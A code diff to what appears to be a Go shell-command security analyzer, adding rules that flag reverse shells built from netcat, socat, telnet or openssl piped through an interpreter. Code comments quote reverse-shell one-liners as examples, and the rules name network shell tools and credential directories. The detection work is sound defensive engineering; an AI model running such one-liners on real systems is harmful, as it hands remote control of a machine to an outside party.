@@ -552,6 +552,21 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 		}
 		argvs = append(argvs, argv)
 	}
+	// A shell reading its stdin and a raw connection in one pipeline (`nc H P < f | /bin/sh > f`,
+	// `cat f | /bin/sh -i 2>&1 | nc H P`): the connection's bytes run, the shell's output goes
+	// back: a reverse shell, whichever side of the shell the connection stands.
+	stdinShell, conn := false, false
+	for _, argv := range argvs {
+		if len(argv) == 0 {
+			continue
+		}
+		name := base(argv[0])
+		stdinShell = stdinShell || interpreter(name) && !runsFile(name, argv[1:])
+		conn = conn || connector(name, argv[1:])
+	}
+	if stdinShell && conn {
+		a.add("exfil/reverse_shell", "pipes a network connection through an interpreter", strings.Join(slices.Concat(argvs...), " "), 0.95)
+	}
 	src := ""
 	vendor := false   // the fetch is a vendor's installer from its own host
 	var feed []string // paths the previous stage lists, for xargs
@@ -627,6 +642,37 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 			}
 		}
 	}
+}
+
+// socatShell reports whether socat's two addresses join a network connection (tcp:, tcp-connect:,
+// tcp-listen:, udp:, openssl:, sctp:...) and a program it starts (exec:, system:): a reverse or
+// bind shell (socat(1), "ADDRESS TYPES").
+func socatShell(args []string) bool {
+	program, conn := false, false
+	for _, x := range args {
+		l := strings.ToLower(x)
+		switch {
+		case strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:"):
+			program = true
+		case socatNet.MatchString(l):
+			conn = true
+		}
+	}
+	return program && conn
+}
+
+var socatNet = lazyre.New(`^(?:tcp[46]?|tcp[46]?-(?:connect|listen|l)|udp[46]?|udp[46]?-(?:connect|listen|sendto|recv)|openssl|openssl-(?:connect|listen)|ssl|ssl-l|sctp[46]?|sctp-(?:connect|listen)|socks[45]a?|proxy)[:-]`)
+
+// connector reports whether name opens a raw network connection whose bytes a pipeline can
+// run or send: netcat and its kin, socat, telnet, openssl s_client.
+func connector(name string, args []string) bool {
+	switch name {
+	case "nc", "ncat", "netcat", "socat", "telnet":
+		return true
+	case "openssl":
+		return len(args) > 0 && args[0] == "s_client"
+	}
+	return false
 }
 
 // evalsStdin reports whether an interpreter's inline code runs what it reads from stdin
@@ -791,7 +837,7 @@ var secretDir = lazyre.New(`(^|/)\.(ssh|aws|gnupg|password-store)/?$`)
 func unwrap(argv []string) []string {
 	for len(argv) > 0 {
 		switch base(argv[0]) {
-		case "env", "nohup", "nice", "time", "command", "builtin", "exec", "stdbuf", "ionice", "setsid", "timeout", "caffeinate":
+		case "env", "nohup", "nice", "time", "command", "builtin", "exec", "stdbuf", "ionice", "setsid", "timeout", "caffeinate", "busybox":
 			rest := argv[1:]
 			for len(rest) > 0 && (strings.HasPrefix(rest[0], "-") || strings.Contains(rest[0], "=") && base(argv[0]) == "env" || base(argv[0]) == "timeout" && len(rest[0]) > 0 && rest[0][0] >= '0' && rest[0][0] <= '9') {
 				rest = rest[1:]
@@ -1851,6 +1897,9 @@ func inlineFlag(lang, x string, shellish bool) bool {
 
 // net checks a network command's arguments for the environment, secrets and metadata endpoints.
 func (a *analyzer) net(name string, args []string, line string) {
+	if name == "socat" && socatShell(args) {
+		a.add("exfil/reverse_shell", "attaches a shell to a network connection", line, 0.95)
+	}
 	for i, x := range args {
 		switch {
 		case envSubst.MatchString(x):
